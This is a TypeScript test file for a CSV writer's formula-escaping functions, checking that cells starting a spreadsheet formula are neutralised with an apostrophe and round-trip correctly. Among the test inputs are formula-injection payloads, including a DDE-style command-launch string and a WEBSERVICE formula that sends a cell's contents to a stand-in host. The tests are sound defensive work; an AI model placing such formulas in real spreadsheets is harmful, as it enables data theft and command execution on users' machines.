import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { escapeFormula, unescapeFormula } from './csv-formula.ts'
import { readCsv } from './read-csv.ts'
import { writeCsv } from './write-csv.ts'

describe('escapeFormula', () => {
  test.each([
    ['=1+1', "'=1+1"],
    ['+52 55', "'+52 55"],
    ['@nombre', "'@nombre"],
    ['-', "'-"],
    ['-A', "'-A"],
    ['-40', '-40'],
    ['-40, -20 y 0 °C', '-40, -20 y 0 °C'],
    ['-.5', '-.5'],
    ["-2+3|' /C calc'!A0", "'-2+3|' /C calc'!A0"],
    ['-1+WEBSERVICE("http://x.example/"&A1)', '\'-1+WEBSERVICE("http://x.example/"&A1)'],
    ['-1+ÍNDICE (A1:B2,1)', "'-1+ÍNDICE (A1:B2,1)"],
    ['-1-(2+SUMA(A1))', "'-1-(2+SUMA(A1))"],
    ['-40 °C (aprox.)', '-40 °C (aprox.)'],
    ['-40 (baja)', '-40 (baja)'],
    ["'=1", "''=1"],
    ["'hola", "'hola"],
    ['1=1', '1=1'],
    ['', ''],
  ])('%s', (text, escaped) => {
    expect(escapeFormula(text)).toBe(escaped)
    expect(unescapeFormula(escaped)).toBe(text)
  })
})

const trimmed = fc
  .string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '|', '"', ',', '\n', 'a', 'Ñ', '4', ' ') })
  .map((text) => text.trim())

test('a written table reads back as it was, and no cell starts a formula', () => {
  fc.assert(
    fc.property(fc.array(fc.tuple(trimmed, trimmed, fc.constant('x')), { maxLength: 6 }), (rows) => {
      const text = writeCsv(['A', 'B', 'C'], rows)
      expect(text.startsWith('\ufeff')).toBe(true)
      const cells = readCsv(text.slice(1)).rows.map((row) => row.cells)
      expect(cells.every((row) => row.every((cell) => !/^[=+@]/.test(cell)))).toBe(true)
      expect(cells.map((row) => row.map(unescapeFormula))).toEqual(rows)
    }),
    { numRuns: 1000 },
  )
})
